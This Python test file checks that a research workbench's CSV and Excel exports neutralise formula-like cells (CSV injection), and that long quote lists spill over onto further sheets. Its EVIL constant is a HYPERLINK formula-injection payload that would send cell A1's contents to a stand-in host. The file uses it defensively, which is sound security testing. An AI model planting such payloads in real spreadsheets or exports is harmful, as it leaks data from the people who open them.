"""Spreadsheet cells that look like formulas stay text (CSV injection, OWASP)."""

import csv
import io

from openpyxl import load_workbook

from workbench.core.dto import (
    CodeDocumentMatrix,
    FrequencyReport,
    FrequencyRow,
    Provenance,
    QuoteView,
    RespondentMatrix,
    RespondentRow,
)
from workbench.reports.excel import frequency_xlsx
from workbench.reports.frequency_text import to_csv

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def report() -> FrequencyReport:
    rows = (FrequencyRow(path=f"{EVIL} > +Sub", code="+Sub", depth=1, group="@pabo", count=2, n=3),
            FrequencyRow(path=f"{EVIL} > +Sub", code="+Sub", depth=1, group="", count=2, n=3))
    return FrequencyReport("respondent", "programme", ("@pabo",), {"@pabo": 3, "": 3}, rows)


def test_csv_cells_that_start_like_a_formula_get_a_quote():
    rows = list(csv.reader(io.StringIO(to_csv(report()))))
    assert rows[1][:3] == [f"'{EVIL} > +Sub", "'+Sub", "'@pabo"] and rows[1][4] == "2"


def test_xlsx_cells_that_start_like_a_formula_are_text(tmp_path):
    quote = QuoteView("g", "-min", "t", "=R01", ("@pabo",), 1000, "=1+1 zei ik", "-anna", 0, "+interview 1")
    documents = CodeDocumentMatrix(("=code",), ("t",), {("=code", "t"): 1}, Provenance(()))
    people = RespondentMatrix(("=code",), ("-leeftijd",), (RespondentRow("=R01", ("@pabo",), "+Hogeschool",
                                                                        {"-leeftijd": "=41"}, ("t",), {"=code": 1}),),
                              Provenance(()))
    frequency_xlsx([report()], documents, people, [quote], tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in texts} >= {f"{EVIL} > +Sub", "=code", "=R01", "=1+1 zei ik", "-anna", "@pabo", "+interview 1",
                                        "+Hogeschool", "-leeftijd", "=41"}
    assert all(c.data_type == "s" for c in texts)  # strings, shown as written: nothing runs


def test_rows_beyond_what_an_excel_sheet_holds_go_on_in_a_next_sheet_with_the_header_none_lost(tmp_path,
                                                                                               monkeypatch):
    """The large study's Excel report stopped with a traceback at row 1,048,577 (3 million quotes): a sheet
    holds at most SHEET_ROWS rows, the quotes and disagreements go on in 'Quotes 2', 'Quotes 3'."""
    import openpyxl

    from workbench.core.counting import TOTAL
    from workbench.core.dto import CodeDocumentMatrix, FrequencyReport, Provenance, QuoteView, RespondentMatrix
    from workbench.reports import excel

    monkeypatch.setattr(excel, "SHEET_ROWS", 3)  # Excel's is 1,048,576: the header and 1,048,575 rows
    quotes = [QuoteView(f"g{i}", "Werkdruk", "t", "R01", ("pabo",), 1000 * i, f"citaat {i}", "anna", i, "t")
              for i in range(5)]
    report = FrequencyReport("respondent", "none", (), {TOTAL: 1}, ())
    excel.frequency_xlsx([report], CodeDocumentMatrix((), (), {}, Provenance(())),
                         RespondentMatrix((), (), (), Provenance(())), quotes, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    sheets = [s for s in book.worksheets if s.title.startswith("Quotes")]
    assert [s.title for s in sheets] == ["Quotes", "Quotes 2", "Quotes 3"]
    assert all(s.max_row <= 3 and s.cell(1, 1).value == "code" for s in sheets)
    assert [row[5] for s in sheets for row in s.iter_rows(min_row=2, values_only=True)] == [q.text for q in quotes]
